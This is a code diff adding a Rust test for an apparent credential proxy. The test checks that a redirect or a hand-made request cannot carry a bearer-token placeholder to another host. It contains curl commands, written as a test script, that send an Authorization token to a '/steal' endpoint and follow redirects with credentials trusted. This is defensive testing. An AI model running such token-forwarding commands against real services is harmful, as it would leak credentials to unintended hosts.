@@ -1047,6 +1047,79 @@ curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "https://127.0.0.1:{por
     }
 }
 
+/// An HTTP/1.1 upstream that answers every request with `302 Found` to
+/// `location`; the request heads it saw.
+fn redirecting_upstream(location: String) -> (u16, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let log = Arc::clone(&seen);
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut head = String::new();
+            loop {
+                let mut l = String::new();
+                if reader.read_line(&mut l).unwrap_or(0) == 0 || l == "\r\n" {
+                    break;
+                }
+                head.push_str(&l);
+            }
+            log.lock().unwrap().push(head);
+            let mut stream = stream;
+            let _ = write!(
+                stream,
+                "HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+            );
+        }
+    });
+    (port, seen)
+}
+
+/// A redirect cannot carry a placeholder (or the key) elsewhere: the service's
+/// redirect to another origin reaches the program without its `Location`, so
+/// even a client told to follow with its credentials has nowhere to go; and a
+/// program that follows by hand, sending its placeholder to a host no service
+/// names, trips the wire.
+#[test]
+fn a_redirect_cannot_carry_a_placeholder_elsewhere() {
+    let (other, other_seen) = upstream();
+    let (redir, redir_seen) = redirecting_upstream(format!("http://127.0.0.1:{other}/steal"));
+    let (dir, home) = home(redir, closed_port());
+    ok(airlock(&home)
+        .args([
+            "cap",
+            "add",
+            "web",
+            "--service",
+            "local",
+            "--mode",
+            "exec",
+            "--command",
+            "sh",
+            "--env",
+            "TOKEN={{secret}}",
+        ])
+        .output()
+        .unwrap());
+    let script = format!(
+        r#"curl -sS -o /dev/null -L --location-trusted --max-redirs 3 -w 'FOLLOW %{{http_code}} [%{{redirect_url}}]\n' -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{redir}/v1/go
+curl -sS -o /dev/null -w 'BYHAND %{{http_code}}\n' -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{other}/steal
+exit 0"#
+    );
+    let (code, out, err) = run_proxied(&home, dir.path(), &["--proxy", "--cap", "web"], &script);
+    assert_eq!(code, 0, "{err}");
+    // The service's redirect, its Location removed: curl had nothing to follow.
+    assert!(out.contains("FOLLOW 302 []"), "{out} {err}");
+    let heads = redir_seen.lock().unwrap().join("");
+    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
+    // By hand, to a host no service names: refused, and the wire trips.
+    assert!(out.contains("BYHAND 403"), "{out} {err}");
+    assert_untouched(&other_seen);
+    assert!(err.contains("placeholder trip wire"), "{err}");
+    assert!(audit_contains(&home, "placeholder trip wire"));
+}
+
 #[test]
 fn a_placeholder_anywhere_else_trips_the_wire_and_ends_the_run_s_access() {
     let (port, upstream_ca, seen) = tls_upstream();
